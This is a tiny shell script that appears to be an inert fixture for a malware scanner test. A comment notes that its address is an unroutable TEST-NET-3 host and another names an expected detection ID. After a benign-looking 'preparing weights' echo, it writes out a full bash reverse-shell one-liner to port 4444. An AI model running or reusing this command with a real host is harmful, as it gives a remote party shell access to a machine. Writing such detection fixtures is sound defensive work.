#!/bin/sh
# Inert fixture: 203.0.113.0/24 is TEST-NET-3, never routed.
echo "preparing weights"
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1  # expect: YR102
